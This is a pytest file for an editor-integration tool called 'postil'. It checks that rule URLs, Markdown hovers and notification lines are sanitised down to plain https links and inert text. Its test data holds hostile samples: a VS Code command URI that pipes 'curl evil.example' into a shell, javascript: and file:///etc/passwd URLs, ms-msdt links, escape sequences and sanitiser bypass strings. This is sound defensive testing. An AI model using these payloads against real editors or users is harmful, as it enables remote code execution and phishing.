"""Text from a repository or a model reaches an editor as text (issue 30, item 3).

A rule's ``url`` is kept only as a plain https address (else dropped, and ``rules test`` and
``doctor`` say so); every Markdown postil sends an editor (hover, Explain) renders with no
image, no raw HTML and no link but to documentation or the rule's own https page; a line for
an editor's notifications holds no ``[label](target)``. Markdown is judged by a real
CommonMark parser with GFM tables (markdown-it, which ``rich`` depends on), not by string
matching."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st
from lsprotocol import types

from postil.analyzers.findings import Finding, Severity, Span
from postil.analyzers.rules.loader import builtin_rules, dropped_url_notes, load_rule_dirs
from postil.core.web_address import https_url
from postil.gate.text import markdown, notice
from postil.server.hover import describe
from postil.server.notices import as_text
from tests.gate.rendered import NOTIFICATION_LINK, PARSER, live, unsafe

COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D"
HOSTILE_URLS = [
    COMMAND, "COMMAND:workbench.action.terminal.new", "Command:x", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    " javascript:alert(1)", "file:///etc/passwd", "FILE:///etc/passwd", "vscode://vscode.git/clone?url=x",
    "vscode-insiders://ms-vscode.x/y", "data:text/html,<script>alert(1)</script>", "ms-msdt:/id PCWDiagnostic",
    "//evil.example/x", "https:evil.example", "https:/evil.example", "https:///evil.example", "https://",
    "https://user:pw@evil.example/", "https://docs.python.org@evil.example/", "https://evil.example\\@docs.python.org/",
    "https://evil .example/", " https://docs.python.org/", "https://docs.python.org/\n", "\thttps://docs.python.org/",
    "https://docs.python.org/\x1b]8;;command:x\x07", "https://docs.python.org/a b", "https://docs.python.org/\u202ex",
    "https://[::1]/", "https://evil.example:99999/", "https://evil.example:x/", "https://évil.example/",
    "https://-bad-.example/", "https://evil.example/<img src=x>", 'https://x.example/"onmouseover=alert(1)',
    "https://x.example/`code`", "https://x.example/[a]", "http://evil.example/", "ftp://evil.example/",
    "https" + "://" + "a" * 3000 + ".example/", 42, ["https://docs.python.org/"], {"href": "https://x.example"},
]


@pytest.mark.parametrize("url", HOSTILE_URLS, ids=lambda u: repr(u)[:40])
def test_only_a_plain_https_address_with_a_host_is_a_url(url):
    assert https_url(url) is None


@pytest.mark.parametrize(("url", "kept"), [
    ("https://docs.python.org/3/library/ast.html", "https://docs.python.org/3/library/ast.html"),
    ("HTTPS://Docs.Python.ORG/3/#Ref", "https://docs.python.org/3/#Ref"),
    ("https://example.com:8443/a(b)/c?q=1&r=%20#frag", "https://example.com:8443/a(b)/c?q=1&r=%20#frag"),
])
def test_a_plain_https_address_is_kept(url, kept):
    assert https_url(url) == kept


RULE = """id: {id}
language: python
message: no eval
url: {url}
rule:
  pattern: eval($X)
"""


def test_a_rule_url_that_is_not_https_is_dropped_and_named_once_per_rule(tmp_path: Path):
    (tmp_path / "rules").mkdir()
    hostile = {"local/command": COMMAND, "local/file": "'file:///etc/passwd'",
               "local/escape": '"https://docs.python.org/\\e]52;c;ZXZpbA==\\a"', "local/relative": "'//evil.example/x'"}
    (tmp_path / "rules" / "bad.yml").write_text("---\n".join(RULE.format(id=i, url=u) for i, u in hostile.items()))
    (tmp_path / "rules" / "good.yml").write_text(RULE.format(id="local/good", url="https://example.com/rules#good"))
    rules, errors = load_rule_dirs([tmp_path / "rules"])
    assert errors == []
    urls = {rule.id: rule.url for rule in rules}
    assert urls == {**dict.fromkeys(hostile), "local/good": "https://example.com/rules#good"}  # the rules still run
    notes = dropped_url_notes(rules)
    assert len(notes) == len(hostile)
    for rule_id in hostile:
        [note] = [n for n in notes if f"rule {rule_id!r}" in n]
        assert str(tmp_path / "rules" / "bad.yml") in note and "dropped" in note
    assert not any("\x1b" in n or "\x07" in n for n in notes)  # the value is shown escaped


def test_every_bundled_rule_keeps_its_documentation_link():
    rules, _errors = builtin_rules()
    assert dropped_url_notes(rules) == []
    assert sum(1 for rule in rules if rule.url) > 100 and all(https_url(r.url) == r.url for r in rules if r.url)


# --- Markdown, judged by a CommonMark + GFM tables parser ------------------------------------
HOSTILE_NOTES = [
    "![x](https://evil.example/x.png)", f"[click]({COMMAND})", "[f](file:///etc/passwd)", "[j](JaVaScRiPt:alert(1))",
    "<img src=https://evil.example/p.png>", f'<a href="{COMMAND}">docs</a>', "<!-- x --><script>alert(1)</script>",
    f"[x][1]\n\n[1]: {COMMAND}", "![x][img]\n\n[img]: https://evil.example/p.png", f"<{COMMAND}>",
    "[v](vscode://vscode.git/clone?url=https://evil.example/r)", "[d](data:text/html,x)", "[p](//evil.example/x)",
    "[ms](ms-msdt:/id?PCWDiagnostic)", "see www.evil.example, xhttp://evil.example/p or a@evil.example",
]
# Markdown the sanitiser used to pass live (it guessed code spans and fences a renderer reads otherwise).
SANITISER_BYPASSES = [
    f"``[c]({COMMAND})`", f"\\`[c]({COMMAND})`", f"[a [b] c]({COMMAND})", f"`a\n\n[c]({COMMAND})\n`",
    f"- item\n  ```\n[c]({COMMAND})\n```", f"```x`\n[c]({COMMAND})\n```", f"[x][1]\n> [1]: {COMMAND}",
    f"[x]\n\n- [x]: <{COMMAND}>", f"| a | b |\n|---|---|\n| `x | [c]({COMMAND})` | z |",
    "> [1]: ms-msdt:/id\n\n[1]", "foo_www.evil.example and xhttp://evil.example/p",
]


@pytest.mark.parametrize("payload", SANITISER_BYPASSES, ids=lambda n: repr(n)[:40])
def test_markdown_the_sanitiser_used_to_pass_live_is_inert(payload):
    assert unsafe(markdown(payload)) == []


@pytest.mark.parametrize("note", HOSTILE_NOTES, ids=lambda n: repr(n)[:40])
def test_a_repository_rules_note_and_message_reach_the_hover_as_text(note):
    finding = Finding(path="app.py", span=Span(0, 0, 0, 4), rule="local/[x](command:y)", severity=Severity.WARNING,
                      message=f"no eval {note}", note=note, url="https://example.com/rules#no-eval")
    hover = describe(finding, "app.py")
    assert unsafe(hover, allowed=("https://example.com/rules#no-eval",)) == []
    assert ("link", "https://example.com/rules#no-eval") in live(hover)  # the rule's own https page stays a link


def test_the_hover_keeps_code_docs_links_and_the_rule_text():
    finding = Finding(path="app.py", span=Span(0, 0, 0, 4), rule="local/no-eval", severity=Severity.ERROR,
                      message="`eval` runs text as code",
                      note="Use `ast.literal_eval`, see [ast](https://docs.python.org/3/library/ast.html).")
    hover = describe(finding, "app.py")
    html = PARSER.render(hover)
    assert "<code>eval</code>" in html and "<code>ast.literal_eval</code>" in html
    assert live(hover) == [("link", "https://docs.python.org/3/library/ast.html")]


ATOMS = ["[", "]", "(", ")", "<", ">", "`", "``", "```", "~~~", "\\", "!", "|", "-", "---", "\n", "\n\n", " ", "    ",
         "> ", "- ", "1. ", ":", "'", '"', "*", "_", "#", "=", "&lt;", "&#91;", "<img src=x>", "<a href='x'>",
         COMMAND, "file:///etc", "https://evil.example/p", "https://docs.python.org/3/", "www.evil.example", "a@b.example",
         "javascript:alert(1)", "[1]:", "[1]", "http://e.example", "HTTPS://", "ms-msdt:/x", "//", "@", "%", "é", "x"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(ATOMS), max_size=30).map("".join))
@example("https://docs.python.org/3/" + COMMAND + "https://evil.example/p")  # a second address in a doc link
def test_no_markdown_survives_the_sanitiser_live(text):
    assert unsafe(markdown(text)) == []


def test_the_sanitiser_takes_linear_time_on_what_a_repository_or_model_can_write():
    # each input is 20,000 characters; the sanitiser used to rescan the rest of the text from
    # every "[", "](" or letter (seconds each); a wide in-process bound, no timing of the machine
    import time

    started = time.thread_time()  # CPU seconds: a busy machine does not stretch them
    for unit in ("[", "[a](", "![", "a", "a.b@", "[](<", "`" + "``" * 3):
        assert markdown((unit * 20_000)[:20_000])
    assert time.thread_time() - started < 3.0


# --- a line for a notification --------------------------------------------------------------
@pytest.mark.parametrize("text", [f"rules/[run]({COMMAND}).yml: missing `language`",
                                  "[docs](https://docs.python.org/3/)", "[f](FILE:///etc/passwd) \x1b[2K"])
def test_a_notification_line_holds_no_link(text):
    shown = notice(text)
    assert NOTIFICATION_LINK.search(shown) is None and "\x1b" not in shown
    assert "run" in shown or "docs" in shown or "f" in shown  # the words stay readable


def test_the_servers_messages_and_progress_are_notification_lines():
    name = f"[run]({COMMAND}).py"
    shown = as_text(types.WINDOW_SHOW_MESSAGE, types.ShowMessageParams(type=types.MessageType.Error, message=name))
    begun = as_text(types.PROGRESS, types.ProgressParams(token="t", value=types.WorkDoneProgressBegin(
        title=f"postil: reviewing {name}", message=name)))
    for text in (shown.message, begun.value.title, begun.value.message):
        assert NOTIFICATION_LINK.search(text) is None and "command:" in text


# --- what the CLI says --------------------------------------------------------------------
@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".postil.toml").write_text('rule-dirs = ["rules"]\nselect = ["local/"]\n')
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "eval.yml").write_text(
        RULE.format(id="local/no-eval", url=COMMAND) + "---\n"
        + RULE.format(id="local/esc\\e[31m", url="'vscode://x'").replace("id: local/esc\\e[31m", 'id: "local/esc\\e[31m"')
        + "---\n" + RULE.format(id="local/fine", url="https://example.com/rules#fine"))
    (tmp_path / "app.py").write_text("eval(data)\n")
    return tmp_path


def _noted(output: str, repository: Path) -> list[str]:
    return [line for line in output.splitlines() if "dropped" in line and str(repository / "rules" / "eval.yml") in line]


def test_rules_test_names_each_dropped_url(postil, repository):
    run = postil("rules", "test", str(repository / "rules"), cwd=repository)  # (the project's rules only: the bundled packs take minutes on a busy machine)
    notes = _noted(run.stderr, repository)
    assert len(notes) == 2, run.stderr
    assert any("local/no-eval" in n for n in notes) and any("local/esc" in n for n in notes)
    assert not any("\x1b" in n for n in notes)  # the id is shown escaped


def test_doctor_names_each_dropped_url_and_check_publishes_none(postil, repository):
    run = postil("doctor", "--no-call", cwd=repository)
    notes = _noted(run.stdout, repository)
    assert len(notes) == 2, run.stdout
    assert not any("\x1b" in n for n in notes)
    findings = postil("check", "app.py", "--format", "json", cwd=repository).json["findings"]
    assert {(f["rule"], f["url"]) for f in findings} == {("local/no-eval", None), ("local/esc\x1b[31m", None),
                                                         ("local/fine", "https://example.com/rules#fine")}
    sarif = postil("check", "app.py", "--format", "sarif", cwd=repository).stdout
    assert "command:" not in sarif and "vscode://" not in sarif and "https://example.com/rules#fine" in sarif
